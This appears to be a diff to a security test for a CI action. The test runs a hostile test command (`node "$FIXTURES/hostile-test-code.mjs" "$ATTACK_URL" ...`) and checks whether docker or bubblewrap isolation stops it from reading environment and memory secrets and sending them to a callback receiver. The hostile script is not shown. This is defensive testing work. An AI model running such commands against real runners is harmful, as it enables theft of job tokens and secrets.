@@ -6,7 +6,7 @@
  * docker job container: the command runs as uid 65534) and as a non-root runner user (the command runs in
  * bubblewrap). A control run with `isolation: none` shows the same attack succeeding where nothing isolates it.
  */
-import { chmodSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { ROOT } from '../support/cli.js';
@@ -39,8 +39,10 @@ interface Found { environsRead: string[]; memoryRead: string[]; values: string[]
 async function attack(inputs: Record<string, string> = {}, actionUid?: number, env: Record<string, string> = {}) {
   const r = await startReceiver(CALLBACK_TOKEN);
   receivers.push(r);
-  const command = `id -u; node ${HOSTILE} "$ATTACK_URL" ${OTHER_ITEM} ${HEAD_SHA}`;
+  // The hostile code sits in $FIXTURES: the command's user must read it wherever the repository is checked out.
+  const command = `id -u; node "$FIXTURES/hostile-test-code.mjs" "$ATTACK_URL" ${OTHER_ITEM} ${HEAD_SHA}`;
   const run = await runAction({
+    prepare: (fixtures) => copyFileSync(HOSTILE, join(fixtures, 'hostile-test-code.mjs')),
     inputs: baseInputs(r.url, { 'test-command': command, ...inputs }),
     env: { GITHUB_API_URL: gitea.apiUrl, GITHUB_SERVER_URL: gitea.serverUrl, ATTACK_URL: r.url, GITEA_TOKEN: JOB_TOKEN, ...env },
     actionUid,
